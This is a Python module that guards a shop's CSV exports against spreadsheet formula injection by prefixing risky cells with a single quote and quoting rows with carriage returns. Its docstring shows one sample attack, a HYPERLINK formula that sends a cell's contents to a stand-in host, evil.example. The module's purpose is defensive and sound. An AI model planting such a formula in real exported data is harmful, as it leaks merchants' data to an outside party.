"""
CSV that the shop writes for people to open (feeds, reports), safe from spreadsheet formulas.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and one
that starts with a tab or a carriage return after trimming it), so a product named
``=HYPERLINK("http://evil.example/?"&A1, "click")`` in an export would run on a merchant's
machine ("CSV injection"). OWASP's rule: prefix such a cell with a single quote, which
spreadsheets show as text and do not evaluate, and quote every cell that holds the separator or
a quote (the ``csv`` module does). ``writer`` applies it to every text cell; numbers are written
as they are.

It also quotes a row with a carriage return in a cell when the line terminator is ``"\n"``:
the ``csv`` module quotes only the characters of its line terminator, so ``"a\rb"`` went out
bare and a reader took it for the end of a line.

See https://owasp.org/www-community/attacks/CSV_Injection.
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value: Any) -> Any:
    """``value`` with a single quote in front if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeWriter:
    """A ``csv.writer`` whose text cells are passed through ``formula_safe``."""

    def __init__(self, out, **kwargs: Any):
        self._writer = csv.writer(out, **kwargs)
        self._quote_all = csv.writer(out, **{**kwargs, "quoting": csv.QUOTE_ALL})
        self._bare_cr = "\r" not in self._writer.dialect.lineterminator

    def writerow(self, row: Iterable[Any]) -> Any:
        cells = [formula_safe(value) for value in row]
        if self._bare_cr and any(isinstance(cell, str) and "\r" in cell for cell in cells):
            return self._quote_all.writerow(cells)
        return self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs: Any) -> FormulaSafeWriter:
    """``csv.writer(out, **kwargs)`` that neutralises formulas (see the module's docstring)."""
    return FormulaSafeWriter(out, **kwargs)
